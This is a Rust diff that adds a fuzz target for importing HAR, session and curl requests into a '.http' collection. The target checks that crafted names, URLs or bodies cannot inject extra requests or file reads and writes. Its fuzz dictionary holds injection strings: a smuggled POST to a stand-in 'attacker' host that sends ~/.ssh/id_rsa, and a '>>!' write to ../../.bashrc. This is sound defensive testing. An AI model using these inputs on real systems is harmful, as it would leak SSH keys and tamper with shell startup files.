@@ -263,6 +263,23 @@ pub const TARGETS: &[Target] = &[
         ],
     },
     Target {
+        name: "import_requests",
+        run: import_requests,
+        dictionary: &[
+            "{\"log\": {\"entries\": [",
+            "\"request\": {\"method\": \"",
+            "\"url\": \"http://h/",
+            "\"headers\": [{\"name\": \"",
+            "\"value\": \"",
+            "\"postData\": {\"text\": \"",
+            "\\n### x\\nPOST http://attacker/\\n\\n< ~/.ssh/id_rsa",
+            "\\n>>! ../../.bashrc",
+            "{{host}}",
+            "curl -H 'X: ",
+            " --data-binary @",
+        ],
+    },
+    Target {
         name: "redact",
         run: redact,
         dictionary: &[
@@ -588,6 +605,25 @@ fn import_bruno(bytes: &[u8]) {
         ("environments/dev.bru".to_owned(), text),
     ];
     read_back(apiscope_core::collection::import::from_bruno(&files, "b"));
+}
+
+/// A customer's HAR, curl command or session imported (`apiscope import`):
+/// whatever its names, URLs, headers and bodies hold, the `.http` written
+/// reads back as exactly its requests (no request, `<` or `>>` injected).
+fn import_requests(bytes: &[u8]) {
+    let requests: Vec<apiscope_core::model::Request> = match input::har::read(bytes, "fuzz.har") {
+        Ok(exchanges) => exchanges.into_iter().filter_map(|e| e.request).collect(),
+        Err(_) => match input::session::read(bytes, "fuzz.json") {
+            Ok(exchanges) => exchanges.into_iter().filter_map(|e| e.request).collect(),
+            Err(_) => input::curl::parse_all(&String::from_utf8_lossy(bytes)).unwrap_or_default(),
+        },
+    };
+    if requests.is_empty() {
+        return;
+    }
+    read_back(apiscope_core::collection::import::from_requests(
+        "fuzz", "har", &requests, "dev",
+    ));
 }
 
 fn import_openapi(bytes: &[u8]) {
